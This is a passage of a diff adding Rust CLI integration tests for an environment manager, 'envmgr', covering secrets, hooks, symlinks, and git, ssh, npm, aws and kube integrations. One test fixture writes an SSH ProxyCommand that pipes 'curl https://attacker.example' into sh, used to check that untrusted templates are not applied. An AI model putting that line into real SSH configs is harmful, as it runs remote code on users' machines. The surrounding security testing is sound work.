+    let invalid = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("use")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .output()
+        .unwrap();
+    assert!(!invalid.status.success());
+    assert!(
+        String::from_utf8_lossy(&invalid.stderr)
+            .contains("sets more than one of `value`, `value_from_command`")
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_use_reads_value_files() {
+    let root = create_config_root("envmgr_cli_test_value_from_file");
+    let config = root.join("config/base/config.yaml");
+    fs::write(root.join("home/token"), "from-file\n").unwrap();
+    fs::write(
+        &config,
+        indoc::indoc! {r#"
+            name: Base
+            env_vars:
+              - key: TOKEN
+                value_from_file: "${HOME}/token"
+              - key: MISSING
+                value_from_file: "${HOME}/missing"
+        "#},
+    )
+    .unwrap();
+
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("use")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    assert!(String::from_utf8_lossy(&failed.stdout).contains("set -gx TOKEN 'from-file'"));
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    let missing = root.join("home/missing");
+    assert!(stderr.contains(&format!("MISSING: {} does not exist", missing.display())));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_use_resolves_secret_references() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let root = create_config_root("envmgr_cli_test_secret_references");
+    fs::write(
+        root.join("config/base/config.yaml"),
+        indoc::indoc! {r#"
+            name: Base
+            env_vars:
+              - key: API_TOKEN
+                value: "op://Work/API/credential"
+              - key: DB_PASSWORD
+                value: "op://Work/DB/password"
+        "#},
+    )
+    .unwrap();
+    // Fails `op inject`, so both references are read one by one
+    let bin = root.join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    fs::write(
+        bin.join("op"),
+        "#!/bin/sh\n[ \"$1\" = read ] || exit 1\nprintf 'resolved-%s' \"$(basename \"$3\")\"\n",
+    )
+    .unwrap();
+    fs::set_permissions(bin.join("op"), fs::Permissions::from_mode(0o755)).unwrap();
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    let used = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .arg("use")
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .env("PATH", &path)
+        .output()
+        .unwrap();
+    assert!(
+        used.status.success(),
+        "{}",
+        String::from_utf8_lossy(&used.stderr)
+    );
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -gx API_TOKEN 'resolved-credential'"));
+    assert!(stdout.contains("set -gx DB_PASSWORD 'resolved-password'"));
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("resolved-"));
+
+    let placeholder = run_envmgr(&root, &["use", "--no-secrets"]);
+    assert!(String::from_utf8_lossy(&placeholder.stdout).contains("set -gx API_TOKEN '********'"));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_switch_writes_1password_documents() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let root = create_config_root("envmgr_cli_test_op_documents");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let config = root.join("config/environments/work/config.yaml");
+    let documents = indoc::indoc! {r#"
+        name: Work
+        op_documents:
+          - vault: Work
+            item: kubeconfig
+            target: "~/.kube/config-abc"
+            mode: 0o640
+          - vault: Work
+            item: npmrc
+            target: "~/.npmrc"
+    "#};
+    fs::write(&config, documents).unwrap();
+    let bin = root.join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    fs::write(
+        bin.join("op"),
+        indoc::indoc! {r#"
+            #!/bin/sh
+            [ "$1 $2 $4" = "document get --vault" ] || exit 1
+            if [ "$3" = missing ]; then echo "[ERROR] \"$3\" isn't an item" >&2; exit 1; fi
+            printf '%s from %s\n' "$3" "$5"
+        "#},
+    )
+    .unwrap();
+    fs::set_permissions(bin.join("op"), fs::Permissions::from_mode(0o755)).unwrap();
+    let switch = |env: &str, path: &str| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+            .args(["switch", env, "--no-integrations"])
+            .env("ENVMGR_CONFIG_DIR", root.join("config"))
+            .env("ENVMGR_STATE_DIR", root.join("state"))
+            .env("HOME", &home)
+            .env("PATH", path)
+            .output()
+            .unwrap()
+    };
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+
+    assert!(switch("work", &path).status.success());
+    let kubeconfig = home.join(".kube/config-abc");
+    assert_eq!(
+        fs::read_to_string(&kubeconfig).unwrap(),
+        "kubeconfig from Work\n"
+    );
+    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&kubeconfig), 0o640);
+    assert_eq!(mode(&home.join(".npmrc")), 0o600);
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(state.contains("[[managed_documents]]"), "{state}");
+
+    assert!(switch("base", &path).status.success());
+    assert!(!kubeconfig.exists());
+    assert!(!home.join(".npmrc").exists());
+
+    // One failing fetch and nothing is written, the switch isn't made
+    let broken = format!("{documents}  - vault: Work\n    item: missing\n    target: ~/.gone\n");
+    fs::write(&config, broken).unwrap();
+    let failed = switch("work", &path);
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(
+        stderr.contains("Work/missing: op document get failed"),
+        "{stderr}"
+    );
+    assert!(!kubeconfig.exists());
+    let list = run_envmgr(&root, &["list", "--json"]);
+    let summaries: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
+    assert_eq!(summaries[0]["current"], true);
+
+    let without_op = switch("work", &root.join("empty").display().to_string());
+    assert!(!without_op.status.success());
+    let stderr = String::from_utf8_lossy(&without_op.stderr);
+    assert!(
+        stderr.contains("op (the 1Password CLI) is not installed"),
+        "{stderr}"
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_switch_runs_hooks() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let root = create_config_root("envmgr_cli_test_switch_hooks");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Locked", "--no-interactive"]);
+    let write_hook = |env: &str, hook: &str, script: &str| {
+        let path = root
+            .join("config/environments")
+            .join(env)
+            .join("hooks")
+            .join(hook);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    let log = root.join("home/hooks.log");
+    let append = format!(
+        "echo \"$0 $ENVMGR_PREV_ENV -> $ENVMGR_ENV\" >> {}",
+        log.display()
+    );
+    write_hook("work", "pre-switch", &append);
+    write_hook(
+        "work",
+        "post-link",
+        &format!("{append}\nls \"$HOME/.baserc\""),
+    );
+    write_hook("work", "post-switch", "echo reloading agent\nexit 1");
+    write_hook("locked", "pre-switch", "echo not on this machine\nexit 1");
+    let current = || {
+        let list = run_envmgr(&root, &["list", "--json"]);
+        let summaries: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
+        let summaries = summaries.as_array().unwrap().clone();
+        let current = summaries.iter().find(|s| s["current"] == true).unwrap();
+        current["key"].as_str().unwrap().to_string()
+    };
+
+    let switched = run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+
+    let hooks_dir = root.join("config/environments/work/hooks");
+    assert_eq!(
+        fs::read_to_string(&log).unwrap(),
+        format!(
+            "{} base -> work\n{} base -> work\n",
+            hooks_dir.join("pre-switch").display(),
+            hooks_dir.join("post-link").display()
+        )
+    );
+    let stderr = String::from_utf8_lossy(&switched.stderr);
+    assert!(stderr.contains("[post-switch] reloading agent"), "{stderr}");
+    assert!(
+        stderr.contains("The post-switch hook of work failed"),
+        "{stderr}"
+    );
+
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(["switch", "locked", "--no-integrations"])
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", root.join("home"))
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(
+        stderr.contains("[pre-switch] not on this machine"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("E024"), "{stderr}");
+    assert_eq!(current(), "work");
+
+    run_envmgr(
+        &root,
+        &["switch", "locked", "--no-integrations", "--no-hooks"],
+    );
+    assert_eq!(current(), "locked");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_link_large_tree() {
+    let root = create_config_root("envmgr_cli_test_link_large_tree");
+    let plugins = root.join("config/base/files/.local/share/nvim/site/pack/vendor/start");
+    for plugin in 0..50 {
+        let dir = plugins.join(format!("plugin-{plugin:02}/lua/plugin-{plugin:02}"));
+        fs::create_dir_all(&dir).unwrap();
+        for file in 0..100 {
+            fs::write(dir.join(format!("{file}.lua")), "return {}").unwrap();
+        }
+    }
+
+    let started = std::time::Instant::now();
+    run_envmgr(&root, &["link"]);
+    let first = started.elapsed();
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    let started = std::time::Instant::now();
+    run_envmgr(&root, &["link"]);
+    let second = started.elapsed();
+    println!("linking 5001 files took {first:?}, relinking {second:?}");
+
+    let home = root.join("home");
+    let links = snapshot_tree(&home);
+    assert_eq!(links.len(), 5001);
+    assert!(links.iter().all(|(_, target)| target.starts_with("-> ")));
+    // Unchanged by a run that has nothing to do, and in path order
+    assert_eq!(
+        fs::read_to_string(root.join("state/state.toml")).unwrap(),
+        state
+    );
+    let state: toml::Table = toml::from_str(&state).unwrap();
+    let managed: Vec<&str> = state["managed_files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|managed| managed["target"].as_str().unwrap())
+        .collect();
+    assert_eq!(managed.len(), 5001);
+    assert!(managed.is_sorted());
+    // Far above what it takes, only a backstop: that the work per file stays constant is
+    // counted by test_link_operations_grow_linearly_with_the_tree
+    assert!(first.as_secs() < 20, "linking took {first:?}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_links_symlinks_in_files_dir() {
+    use std::os::unix::fs::symlink;
+
+    let root = create_config_root("envmgr_cli_test_symlinks_in_files");
+    let files = root.join("config/base/files");
+    fs::create_dir_all(files.join(".config")).unwrap();
+    fs::create_dir_all(root.join("config/shared/nvim")).unwrap();
+    fs::write(root.join("config/shared/nvim/init.lua"), "").unwrap();
+    let outside = root.join("outside");
+    fs::write(&outside, "outside").unwrap();
+    symlink("../../../shared/nvim", files.join(".config/nvim")).unwrap();
+    symlink(&outside, files.join(".outside")).unwrap();
+    symlink("nowhere", files.join(".dangling")).unwrap();
+
+    let linked = run_envmgr(&root, &["link"]);
+    let stderr = String::from_utf8_lossy(&linked.stderr);
+    assert!(
+        stderr.contains(".dangling is a dangling symlink to nowhere"),
+        "{stderr}"
+    );
+    let home = root.join("home");
+    let expected = vec![
+        (
+            home.join(".baserc"),
+            format!("-> {}", files.join(".baserc").display()),
+        ),
+        (
+            home.join(".config/nvim"),
+            "-> ../../../shared/nvim".to_string(),
+        ),
+        (home.join(".dangling"), "-> nowhere".to_string()),
+        (home.join(".outside"), format!("-> {}", outside.display())),
+    ];
+    assert_eq!(snapshot_tree(&home), expected);
+
+    // Kept as they are by the next run, and still envmgr's to remove
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(state.contains("[[mirrored_links]]"), "{state}");
+    run_envmgr(&root, &["link"]);
+    assert_eq!(snapshot_tree(&home), expected);
+    assert_eq!(
+        fs::read_to_string(root.join("state/state.toml")).unwrap(),
+        state
+    );
+    run_envmgr(&root, &["link", "--prune-only"]);
+    assert_eq!(snapshot_tree(&home), vec![]);
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("mirrored_links"), "{state}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_files_conflicts() {
+    let root = create_config_root("envmgr_cli_test_files_conflicts");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work_files = root.join("config/environments/work/files");
+    fs::write(work_files.join(".baserc"), "work").unwrap();
+    fs::write(work_files.join(".workrc"), "work").unwrap();
+
+    let listed = run_envmgr(&root, &["files", "conflicts", "--env", "work", "--json"]);
+    let conflicts: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
+    let conflicts = conflicts.as_array().unwrap();
+    assert_eq!(conflicts.len(), 1);
+    assert_eq!(
+        conflicts[0]["target"],
+        root.join("home/.baserc").display().to_string()
+    );
+    assert_eq!(
+        conflicts[0]["env_source"],
+        work_files.join(".baserc").display().to_string()
+    );
+    assert_eq!(conflicts[0]["winner"], "environment");
+    let listed = run_envmgr(&root, &["files", "conflicts"]);
+    assert!(String::from_utf8_lossy(&listed.stdout).starts_with("No files provided by both"));
+
+    let switched = run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+    let stderr = String::from_utf8_lossy(&switched.stderr);
+    assert!(
+        stderr.contains(&format!(
+            "{} overrides {}",
+            work_files.join(".baserc").display(),
+            root.join("config/base/files/.baserc").display()
+        )),
+        "{stderr}"
+    );
+    let listed = run_envmgr(&root, &["files", "conflicts"]);
+    let stdout = String::from_utf8_lossy(&listed.stdout);
+    assert!(
+        stdout.contains("    work: ") && stdout.contains(".baserc (wins)"),
+        "{stdout}"
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_unlink_env_and_status() {
+    let root = create_config_root("envmgr_cli_test_unlink_env");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    let work_files = root.join("config/environments/work/files");
+    fs::write(work_files.join(".workrc"), "work").unwrap();
+    fs::write(work_files.join(".notesrc"), "work").unwrap();
+    run_envmgr(&root, &["switch", "work", "--no-integrations"]);
+
+    let status = run_envmgr(&root, &["status", "--json"]);
+    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
+    assert_eq!(status["current_env_key"], "work");
+    let links: Vec<(&str, &str, &str)> = status["links"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|link| {
+            let target = link["target"].as_str().unwrap();
+            let name = target.rsplit('/').next().unwrap();
+            let env_key = link["env_key"].as_str().unwrap();
+            (env_key, name, link["health"].as_str().unwrap())
+        })
+        .collect();
+    assert_eq!(
+        links,
+        [
+            ("base", ".baserc", "linked"),
+            ("work", ".notesrc", "linked"),
+            ("work", ".workrc", "linked")
+        ]
+    );
+
+    // Pointed elsewhere by hand, even inside the config dir, it is no longer envmgr's
+    fs::remove_file(home.join(".notesrc")).unwrap();
+    std::os::unix::fs::symlink(
+        root.join("config/base/files/.baserc"),
+        home.join(".notesrc"),
+    )
+    .unwrap();
+    let status = run_envmgr(&root, &["status"]);
+    let stdout = String::from_utf8_lossy(&status.stdout);
+    assert!(stdout.contains("Managed by work:"), "{stdout}");
+    assert!(stdout.contains(".notesrc (changed)"), "{stdout}");
+
+    let unlinked = run_envmgr(&root, &["unlink", "--env", "work"]);
+    let stderr = String::from_utf8_lossy(&unlinked.stderr);
+    assert!(
+        stderr.contains("Removed 1 managed link(s), skipped 1"),
+        "{stderr}"
+    );
+    assert!(!home.join(".workrc").exists());
+    assert!(home.join(".notesrc").is_symlink());
+    assert!(home.join(".baserc").is_symlink());
+
+    run_envmgr(&root, &["unlink"]);
+    assert!(!home.join(".baserc").exists());
+    let status = run_envmgr(&root, &["status"]);
+    assert!(String::from_utf8_lossy(&status.stdout).contains("No managed links"));
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_link_only_and_exclude() {
+    let root = create_config_root("envmgr_cli_test_link_filters");
+    let home = root.join("home");
+    let files = root.join("config/base/files");
+    for path in [".config/fish/config.fish", ".config/nvim/init.lua"] {
+        fs::create_dir_all(files.join(path).parent().unwrap()).unwrap();
+        fs::write(files.join(path), path).unwrap();
+    }
+    run_envmgr(&root, &["link"]);
+    assert!(home.join(".config/nvim/init.lua").is_symlink());
+
+    // Outside of --only nothing is linked or cleaned up
+    fs::remove_file(files.join(".config/nvim/init.lua")).unwrap();
+    fs::create_dir_all(files.join(".config/fish/conf.d")).unwrap();
+    fs::write(files.join(".config/fish/conf.d/env.fish"), "env").unwrap();
+    fs::write(files.join(".newrc"), "new").unwrap();
+    run_envmgr(&root, &["link", "--only", ".config/fish/**"]);
+    assert!(home.join(".config/fish/conf.d/env.fish").is_symlink());
+    assert!(home.join(".config/nvim/init.lua").is_symlink());
+    assert!(!home.join(".newrc").exists());
+
+    // Excluded targets are left as they are, stale or not
+    run_envmgr(&root, &["link", "--exclude", ".config/nvim/**"]);
+    assert!(home.join(".newrc").is_symlink());
+    assert!(home.join(".config/nvim/init.lua").is_symlink());
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(state.contains(".config/nvim/init.lua"), "{state}");
+
+    run_envmgr(&root, &["link"]);
+    assert!(!home.join(".config/nvim/init.lua").is_symlink());
+
+    let invalid = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(["link", "--only", "a/[b"])
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(!invalid.status.success());
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_switch_writes_git_identity() {
+    let root = create_config_root("envmgr_cli_test_git_identity");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\ngit:\n  user_name: Alice\n  user_email: alice@work.example\n",
+    )
+    .unwrap();
+    fs::write(home.join(".gitconfig"), "[user]\n\tname = Alice Personal\n").unwrap();
+    let include = home.join(".config/git/envmgr.inc");
+
+    run_envmgr(&root, &["switch", "work"]);
+    run_envmgr(&root, &["switch", "base"]);
+    run_envmgr(&root, &["switch", "work"]);
+
+    let content = fs::read_to_string(&include).unwrap();
+    assert!(content.contains("\tname = Alice\n\temail = alice@work.example\n"));
+    assert_eq!(
+        fs::read_to_string(home.join(".gitconfig")).unwrap(),
+        "[user]\n\tname = Alice Personal\n[include]\n\tpath = ~/.config/git/envmgr.inc\n"
+    );
+
+    // base has no git identity, so the one of work must not stay active
+    run_envmgr(&root, &["switch", "base"]);
+    let content = fs::read_to_string(&include).unwrap();
+    assert!(!content.contains("alice@work.example"), "{content}");
+    assert!(home.join(".gitconfig").is_file());
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_kube_exports_kubeconfig() {
+    let root = create_config_root("envmgr_cli_test_kube");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nkube:\n  kubeconfig: ~/.kube/config-work\n",
+    )
+    .unwrap();
+    fs::create_dir_all(home.join(".kube")).unwrap();
+    let kubeconfig =
+        "current-context: prod\ncontexts:\n  - name: prod\n    context: {cluster: prod}\n";
+    fs::write(home.join(".kube/config-work"), kubeconfig).unwrap();
+
+    run_envmgr(&root, &["switch", "work"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(
+        stdout.contains(&format!(
+            "set -gx KUBECONFIG '{}/.kube/config-work'",
+            home.display()
+        )),
+        "{stdout}"
+    );
+    assert_eq!(
+        fs::read_to_string(home.join(".kube/config-work")).unwrap(),
+        kubeconfig
+    );
+
+    // Switching away unsets it and leaves the kubeconfig alone
+    run_envmgr(&root, &["switch", "base"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(stdout.contains("set -e -g KUBECONFIG"), "{stdout}");
+    assert!(home.join(".kube/config-work").is_file());
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_aws_profile() {
+    let root = create_config_root("envmgr_cli_test_aws");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\naws:\n  profile: client-admin\n  region: eu-central-1\n",
+    )
+    .unwrap();
+
+    // Without the profile in ~/.aws/config the switch fails right away
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(["switch", "work"])
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("does not exist"), "{stderr}");
+
+    fs::create_dir_all(home.join(".aws")).unwrap();
+    fs::write(
+        home.join(".aws/config"),
+        "[profile client-admin]\nregion = eu-central-1\n",
+    )
+    .unwrap();
+    run_envmgr(&root, &["switch", "work"]);
+    let used = run_envmgr(&root, &["use"]);
+    let stdout = String::from_utf8_lossy(&used.stdout);
+    assert!(
+        stdout.contains("set -gx AWS_PROFILE 'client-admin'"),
+        "{stdout}"
+    );
+    assert!(
+        stdout.contains("set -gx AWS_REGION 'eu-central-1'"),
+        "{stdout}"
+    );
+
+    let shown = run_envmgr(&root, &["show"]);
+    let stdout = String::from_utf8_lossy(&shown.stdout);
+    assert!(
+        stdout.contains("AWS_PROFILE=client-admin (from aws)"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("  BASE_VAR=base\n"), "{stdout}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_npm_block_is_removed_on_switch_away() {
+    let root = create_config_root("envmgr_cli_test_npm");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nnpm:\n  registry: https://npm.corp.example/\n  scope_registries:\n    '@corp': https://npm.corp.example/\n  auth_tokens:\n    https://npm.corp.example/: plain-token\n",
+    )
+    .unwrap();
+    fs::create_dir_all(&home).unwrap();
+    let npmrc = home.join(".npmrc");
+    fs::write(&npmrc, "save-exact=true\n").unwrap();
+
+    run_envmgr(&root, &["switch", "work"]);
+    let content = fs::read_to_string(&npmrc).unwrap();
+    assert!(content.starts_with("save-exact=true\n"), "{content}");
+    assert!(
+        content.contains("registry=https://npm.corp.example/\n"),
+        "{content}"
+    );
+    assert!(
+        content.contains("@corp:registry=https://npm.corp.example/\n"),
+        "{content}"
+    );
+    assert!(
+        content.contains("//npm.corp.example/:_authToken=plain-token\n"),
+        "{content}"
+    );
+
+    run_envmgr(&root, &["switch", "personal"]);
+    assert_eq!(fs::read_to_string(&npmrc).unwrap(), "save-exact=true\n");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_ssh_include_is_blanked_on_switch_away() {
+    let root = create_config_root("envmgr_cli_test_ssh");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    let work_dir = root.join("config/environments/work");
+    fs::create_dir_all(work_dir.join("ssh")).unwrap();
+    fs::write(
+        work_dir.join("ssh/envmgr.conf"),
+        "Host *.corp.example\n  ProxyJump bastion.corp.example\n",
+    )
+    .unwrap();
+    fs::write(
+        work_dir.join("config.yaml"),
+        "name: Work\nssh:\n  config_file: ssh/envmgr.conf\n",
+    )
+    .unwrap();
+    fs::create_dir_all(home.join(".ssh")).unwrap();
+    fs::write(home.join(".ssh/config"), "Host github.com\n  User git\n").unwrap();
+
+    run_envmgr(&root, &["switch", "work"]);
+    let include = fs::read_to_string(home.join(".ssh/envmgr_env.conf")).unwrap();
+    assert!(
+        include.contains("ProxyJump bastion.corp.example"),
+        "{include}"
+    );
+    let ssh_config = fs::read_to_string(home.join(".ssh/config")).unwrap();
+    assert!(
+        ssh_config.contains("Include ~/.ssh/envmgr_env.conf\n\nHost github.com\n"),
+        "{ssh_config}"
+    );
+
+    run_envmgr(&root, &["switch", "personal"]);
+    let include = fs::read_to_string(home.join(".ssh/envmgr_env.conf")).unwrap();
+    assert!(!include.contains("Host"), "{include}");
+    assert_eq!(
+        fs::read_to_string(home.join(".ssh/config")).unwrap(),
+        ssh_config
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_untrusted_template_integrations_are_not_applied() {
+    let root = create_config_root("envmgr_cli_test_untrusted_template");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    let work_dir = root.join("config/environments/work");
+    fs::create_dir_all(work_dir.join("ssh")).unwrap();
+    fs::write(
+        work_dir.join("ssh/envmgr.conf"),
+        "Host *\n  ProxyCommand curl -s https://attacker.example | sh\n",
+    )
+    .unwrap();
+    fs::write(
+        work_dir.join("config.yaml"),
+        "name: Work\nssh:\n  config_file: ssh/envmgr.conf\ngit:\n  user_email: work@corp.example\n",
+    )
+    .unwrap();
+    fs::write(
+        work_dir.join("template.toml"),
+        "template = \"onboarding\"\nurl = \"https://git.example/onboarding.git\"\ncommit = \"abc123\"\ntrusted = false\n",
+    )
+    .unwrap();
+    fs::create_dir_all(home.join(".ssh")).unwrap();
+
+    let output = run_envmgr(&root, &["switch", "work"]);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("envmgr template trust work"), "{stderr}");
+    assert!(!home.join(".ssh/envmgr_env.conf").exists());
+    assert!(!home.join(".config/git/envmgr.inc").exists());
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(["integrations", "run", "ssh"])
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    assert!(!home.join(".ssh/envmgr_env.conf").exists());
+
+    run_envmgr(&root, &["template", "trust", "work"]);
+    assert!(
+        fs::read_to_string(work_dir.join("template.toml"))
+            .unwrap()
+            .contains("trusted = true")
+    );
+    run_envmgr(&root, &["switch", "personal"]);
+    run_envmgr(&root, &["switch", "work"]);
+    let include = fs::read_to_string(home.join(".ssh/envmgr_env.conf")).unwrap();
+    assert!(include.contains("ProxyCommand"), "{include}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[cfg(unix)]
+#[test]
+fn test_cli_gpg_key_must_be_in_the_keyring() {
+    let root = create_config_root("envmgr_cli_test_gpg");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\ngpg:\n  default_key: 0123456789ABCDEF\n  also_set_git_signing_key: true\n",
+    )
+    .unwrap();
+
+    // The test home has an empty keyring, or there is no gpg at all
+    let failed = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+        .args(["switch", "work"])
+        .env("ENVMGR_CONFIG_DIR", root.join("config"))
+        .env("ENVMGR_STATE_DIR", root.join("state"))
+        .env("HOME", &home)
+        .env("GNUPGHOME", home.join(".gnupg"))
+        .output()
+        .unwrap();
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("gpg"), "{stderr}");
+    assert!(!home.join(".gnupg/gpg.conf").exists());
+
+    // The key still becomes git's signing key
+    run_envmgr(&root, &["switch", "work", "--only", "git"]);
+    let include = fs::read_to_string(home.join(".config/git/envmgr.inc")).unwrap();
+    assert!(
+        include.contains("\tsigningkey = 0123456789ABCDEF\n"),
+        "{include}"
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+fn test_cli_mise_versions_follow_the_environment() {
+    let root = create_config_root("envmgr_cli_test_mise");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Client", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\nmise:\n  globals: {node: '20', terraform: '1.7'}\n",
+    )
+    .unwrap();
+    fs::write(
+        root.join("config/environments/client/config.yaml"),
+        "name: Client\nmise:\n  globals: {nodejs: 18.19.0}\n  format: asdf\n",
+    )
+    .unwrap();
+    fs::write(home.join(".tool-versions"), "python 3.12.1\n").unwrap();
+    let conf_d = home.join(".config/mise/conf.d/envmgr.toml");
+
+    run_envmgr(&root, &["switch", "work"]);
+    let written = fs::read_to_string(&conf_d).unwrap();
+    assert!(
+        written.contains("[tools]\nnode = \"20\"\nterraform = \"1.7\"\n"),
+        "{written}"
+    );
+
+    run_envmgr(&root, &["switch", "client"]);
+    assert!(!conf_d.exists());
+    let tool_versions = fs::read_to_string(home.join(".tool-versions")).unwrap();
+    assert!(
